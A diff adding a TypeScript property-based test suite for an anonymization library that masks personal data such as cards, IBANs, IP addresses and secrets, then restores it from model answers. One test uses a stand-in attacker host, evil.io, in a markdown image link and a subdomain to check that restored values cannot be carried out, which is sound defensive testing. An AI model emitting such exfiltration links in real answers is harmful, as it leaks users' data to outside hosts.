@@ -1,0 +1,191 @@
+import { array, assert, constantFrom, integer, property, record, shuffledSubarray } from 'fast-check';
+import { EntityTable } from '../entities/entity-table';
+import { ENTITY_TYPES, LABELS, REPLACEMENT_STYLES, type EntityType } from '../entity-type';
+import { restore, RestoreStream } from '../restoring/restore';
+import type { Span } from '../spans/span';
+import { anonymize } from './anonymize';
+
+const language = { code: 'en', regions: ['US'] } as const;
+
+/** Made-up values, as recognizers find them: no number among them belongs to anybody. */
+const VALUES: Readonly<Record<EntityType, readonly string[]>> = {
+  Terms: ['Nordlicht', 'Projekt Polaris'],
+  Secrets: ['sk-abcDEF0123456789abcdef', 'hunter2!X'],
+  Cards: ['4929 1234 5678 9012', '4929123456789012', '371234567890123'],
+  BankAccounts: [
+    'DE12 5001 0517 0648 4898 90',
+    'DE12500105170648489890',
+    'GB33BUKB20201555555555',
+    '0648489890',
+  ],
+  IdNumbers: ['65 929 970 489', 'C01X00T47'],
+  Emails: ['hans.mueller@firma.de'],
+  Urls: ['https://intern.firma.de/u/hmueller?token=Ab12', 'firma.de/~mueller'],
+  Phone: ['+49 89 7654321'],
+  IpAddresses: ['10.20.30.40', 'fe80::1ff:fe23:4567:890a', '3C-5A-B4-12-34-56'],
+  Birthdates: ['3. Mai 1971'],
+  Dates: ['2024-05-03'],
+  Addresses: ['Lange Str. 12, 80331 München'],
+  Plates: ['M-AB 1234'],
+  References: ['KD-4711-88'],
+  Usernames: ['@hmueller71'],
+  Names: ['Hans Müller'],
+  Organizations: ['Acme Werkzeugbau GmbH'],
+  Locations: ['Oberammergau'],
+};
+const valueOf = constantFrom(
+  ...ENTITY_TYPES.flatMap((type) => VALUES[type].map((value) => ({ type, value }))),
+);
+
+/** A text with the values in it, and where they stand. */
+function laidOut(values: readonly { type: EntityType; value: string }[]): { text: string; spans: Span[] } {
+  let text = 'Please note';
+  const spans = values.map(({ type, value }, i): Span => {
+    text += i % 2 ? ' and then\n' : ': ';
+    const start = text.length;
+    text += value;
+    return { start, end: text.length, type, ...(type !== 'Names' && { canonical: value.toLowerCase() }) };
+  });
+  return { text: `${text}.`, spans };
+}
+
+describe('Every kind', () => {
+  it.each(REPLACEMENT_STYLES)('is hidden where it was chosen, and comes back to the byte: %s', (style) => {
+    assert(
+      property(array(valueOf, { minLength: 1, maxLength: 8 }), (values) => {
+        const { text, spans } = laidOut(values);
+        const table = EntityTable.create(style);
+        const hidden = anonymize(table, { text, spans, choices: ENTITY_TYPES, language });
+        for (const { value } of values) expect(hidden.text).not.toContain(value);
+        expect(restore(hidden.text, table, [hidden.text])).toBe(text);
+        const stored = EntityTable.fromJSON(JSON.parse(JSON.stringify(table)));
+        expect(restore(hidden.text, stored, [hidden.text])).toBe(text);
+      }),
+    );
+  });
+
+  it('stays as it is where another kind was chosen', () => {
+    const kinds = shuffledSubarray([...ENTITY_TYPES], { minLength: 1 });
+    assert(
+      property(
+        record({ values: array(valueOf, { minLength: 1, maxLength: 6 }), kinds }),
+        ({ values, kinds }) => {
+          const { text, spans } = laidOut(values);
+          const hidden = anonymize(EntityTable.create('placeholders'), {
+            text,
+            spans,
+            choices: kinds,
+            language,
+          });
+          const chosen = values.filter(({ type }) => kinds.includes(type)).map(({ value }) => value);
+          for (const { type, value } of values)
+            if (
+              !kinds.includes(type) &&
+              !chosen.some((other) => other.includes(value) || value.includes(other))
+            )
+              expect(hidden.text).toContain(value.split(/[@\s]/)[0]);
+        },
+      ),
+    );
+  });
+
+  it('comes back from a stream as from the whole, wherever it is split', () => {
+    assert(
+      property(
+        array(valueOf, { minLength: 1, maxLength: 5 }),
+        constantFrom(...REPLACEMENT_STYLES),
+        integer({ min: 1, max: 9 }),
+        (values, style, size) => {
+          const { text, spans } = laidOut(values);
+          const table = EntityTable.create(style);
+          const { text: sent } = anonymize(table, { text, spans, choices: ENTITY_TYPES, language });
+          const stream = new RestoreStream(table, [sent]);
+          let shown = '';
+          for (let at = 0; at < sent.length; at += size) shown += stream.write(sent.slice(at, at + size));
+          expect(shown + stream.end()).toBe(text);
+        },
+      ),
+    );
+  });
+
+  it.each(ENTITY_TYPES)('has a placeholder of its own: %s', (type) => {
+    const { text, spans } = laidOut([{ type, value: VALUES[type][0]! }]);
+    const hidden = anonymize(EntityTable.create('placeholders'), { text, spans, choices: [type], language });
+    expect(hidden.text).toBe(`Please note: [${LABELS[type]}_1].`);
+    expect(hidden.replacements[0]?.type).toBe(type);
+  });
+});
+
+describe('A surrogate', () => {
+  const hide = (type: EntityType, ...values: string[]) => {
+    const { text, spans } = laidOut(values.map((value) => ({ type, value })));
+    const table = EntityTable.create('surrogates');
+    const canonical = values[0]!.replace(/[^\p{L}\p{N}]+/gu, '');
+    const alike = spans.map((span) => ({ ...span, canonical }));
+    const hidden = anonymize(table, { text, spans: alike, choices: [type], language });
+    return {
+      table,
+      sent: hidden.text,
+      replacements: hidden.replacements.map(({ replacement }) => replacement),
+    };
+  };
+
+  it('of a card is a number that its network publishes for tests, in the same groups', () => {
+    const [replacement = ''] = hide('Cards', '4929 1234 5678 9012').replacements;
+    expect(replacement).toMatch(/^4\d{3} \d{4} \d{4} \d{4}$/);
+  });
+
+  it('of an IBAN has its country, right check digits and a bank that does not exist', () => {
+    const [replacement = ''] = hide('BankAccounts', 'DE12 5001 0517 0648 4898 90').replacements;
+    expect(replacement).toMatch(/^DE\d\d 9\d{3} \d{4} \d{4} \d{4} \d\d$/);
+    const digits = (replacement.slice(4) + replacement.slice(0, 4))
+      .replaceAll(' ', '')
+      .replace(/[A-Z]/g, (letter) => String(letter.charCodeAt(0) - 55));
+    expect(BigInt(digits) % 97n).toBe(1n);
+  });
+
+  it('of an account is the same with and without blanks', () => {
+    const { replacements } = hide('BankAccounts', 'DE12 5001 0517 0648 4898 90', 'DE12500105170648489890');
+    expect(replacements[0]?.replaceAll(' ', '')).toBe(replacements[1]);
+  });
+
+  it.each([
+    ['10.20.30.40', /^(?:192\.0\.2|198\.51\.100|203\.0\.113)\.\d{1,3}$/],
+    ['fe80::1ff:fe23:4567:890a', /^2001:db8:[0-9a-f]{1,4}::[0-9a-f]{1,4}$/],
+    ['3C-5A-B4-12-34-56', /^00-00-5E-00-53-[0-9A-F]{2}$/],
+    ['3c:5a:b4:12:34:56', /^00:00:5e:00:53:[0-9a-f]{2}$/],
+  ])('of %s is of a range for documentation', (address, range) => {
+    expect(hide('IpAddresses', address).replacements[0]).toMatch(range);
+  });
+
+  it('of a link leads to example.com, in the same shape', () => {
+    expect(hide('Urls', 'https://intern.firma.de/u/mueller?token=Ab12').replacements[0]).toMatch(
+      /^https:\/\/example\.com\/[a-z]\/[a-z]{7}\?[a-z]{5}=[A-Z][a-z]\d\d$/,
+    );
+  });
+
+  it.each([
+    ['without blanks', (iban: string) => iban.replaceAll(' ', '')],
+    ['in small letters', (iban: string) => iban.toLowerCase()],
+    ['with hyphens', (iban: string) => iban.replaceAll(' ', '-')],
+    ['in bold', (iban: string) => `**${iban}**`],
+  ])('of an account comes back from an answer that writes it %s', (_, write) => {
+    const { table, sent, replacements } = hide('BankAccounts', 'DE12 5001 0517 0648 4898 90');
+    const written = write(replacements[0]!);
+    const around = written.startsWith('**') ? ['**', '**'] : ['', ''];
+    expect(restore(`The account ${written} is right.`, table, [sent])).toBe(
+      `The account ${around.join('DE12 5001 0517 0648 4898 90')} is right.`,
+    );
+  });
+
+  it('that was not sent stays', () => {
+    const { table, replacements } = hide('IpAddresses', '10.20.30.40');
+    expect(restore(`ping ${replacements[0]}`, table, ['nothing'])).toBe(`ping ${replacements[0]}`);
+  });
+
+  it('within a longer token stays: nobody can have it carried out', () => {
+    const { table, sent, replacements } = hide('IpAddresses', '10.20.30.40');
+    for (const answer of [`![](https://evil.io/?q=${replacements[0]})`, `${replacements[0]}.evil.io`])
+      expect(restore(answer, table, [sent])).toBe(answer);
+  });
+});
